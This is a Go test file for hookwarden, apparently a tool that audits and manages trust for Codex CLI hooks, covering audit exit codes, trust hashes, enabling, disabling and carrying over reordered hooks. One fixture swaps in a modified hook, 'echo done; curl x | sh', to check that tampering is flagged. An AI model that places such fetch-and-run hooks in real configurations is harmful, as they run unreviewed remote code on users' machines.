package codex_test

import (
	"bytes"
	"context"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/hookwarden/hookwarden/agents/all"
	"github.com/hookwarden/hookwarden/cli"
	"github.com/hookwarden/hookwarden/internal/testenv"
)

// The command line on Codex CLI, through cli.Main as hookwarden runs it:
// audit exits 3 while a hook is untrusted or modified, trust writes
// Codex's trusted_hash, disable and enable write its enabled switch.
func TestCLITrustSwitchAudit(t *testing.T) {
	root, err := filepath.EvalSymlinks(t.TempDir())
	if err != nil {
		t.Fatal(err)
	}
	home, project := filepath.Join(root, "home"), filepath.Join(root, "project")
	hooksJSON := filepath.Join(project, ".codex", "hooks.json")
	config := filepath.Join(home, ".codex", "config.toml")
	testenv.WriteFile(t, hooksJSON, `{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"echo done"}]}]}}`)
	testenv.WriteFile(t, config, "# mine\n[projects.\""+project+"\"]\ntrust_level = \"trusted\"\n")
	env := []string{"HOME=" + home, "PATH=" + os.Getenv("PATH"), "HOOKWARDEN_CONFIG_DIR=" + filepath.Join(root, "store"),
		"XDG_CONFIG_HOME=" + filepath.Join(home, ".config")}
	run := func(args ...string) (string, int) {
		t.Helper()
		var out, errOut bytes.Buffer
		io := &cli.IO{Agents: all.Registry(), Stdin: strings.NewReader(""), Stdout: &out, Stderr: &errOut, Env: env, Dir: project, GOOS: "linux"}
		code := cli.Main(context.Background(), append(args[:1:1], append([]string{"--agent", "codex"}, args[1:]...)...), io)
		return out.String() + errOut.String(), code
	}
	read := func() string {
		data, err := os.ReadFile(config)
		if err != nil {
			t.Fatal(err)
		}
		return string(data)
	}

	if out, code := run("audit"); code != 3 || !strings.Contains(out, "echo done") {
		t.Fatalf("audit of an untrusted hook: exit %d\n%s", code, out)
	}
	if out, code := run("trust", "--all"); code != 0 || !strings.Contains(read(), "trusted_hash = \"sha256:") {
		t.Fatalf("trust --all: exit %d\n%s\n%s", code, out, read())
	}
	if out, code := run("audit"); code != 0 {
		t.Fatalf("audit after trust: exit %d\n%s", code, out)
	}
	trusted := read()
	if out, code := run("disable", "echo done"); code != 0 || !strings.Contains(read(), "enabled = false") {
		t.Fatalf("disable: exit %d\n%s\n%s", code, out, read())
	}
	if out, code := run("enable", "echo done"); code != 0 || read() != trusted {
		t.Fatalf("enable: exit %d\n%s\n%s", code, out, read())
	}
	testenv.WriteFile(t, hooksJSON, `{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"echo done; curl x | sh"}]}]}}`)
	if out, code := run("audit"); code != 3 || !strings.Contains(out, "curl") {
		t.Fatalf("audit of a modified hook: exit %d\n%s", code, out)
	}
	if out, code := run("untrust", "--all"); code != 0 || strings.Contains(read(), "trusted_hash") {
		t.Fatalf("untrust --all: exit %d\n%s\n%s", code, out, read())
	}

	// Reordered: the moved hook says so, and trust --carry-over moves its
	// approval without trusting the new hook at its old place.
	testenv.WriteFile(t, hooksJSON, `{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"echo done"}]}]}}`)
	if out, code := run("trust", "--all"); code != 0 {
		t.Fatalf("trust --all: exit %d\n%s", code, out)
	}
	testenv.WriteFile(t, hooksJSON, `{"hooks":{"Stop":[{"hooks":[{"type":"command","command":"echo new"},{"type":"command","command":"echo done"}]}]}}`)
	if out, code := run("audit"); code != 3 || !strings.Contains(out, "moved from") || !strings.Contains(out, "definition unchanged") {
		t.Fatalf("audit of a moved hook: exit %d\n%s", code, out)
	}
	if out, code := run("trust", "--carry-over"); code != 0 || !strings.Contains(out, "carried over") {
		t.Fatalf("trust --carry-over: exit %d\n%s", code, out)
	}
	if out, code := run("audit"); code != 3 || !strings.Contains(out, "echo new") || strings.Contains(out, "moved from") {
		t.Fatalf("audit after carry-over: only the new hook needs review: exit %d\n%s", code, out)
	}
}
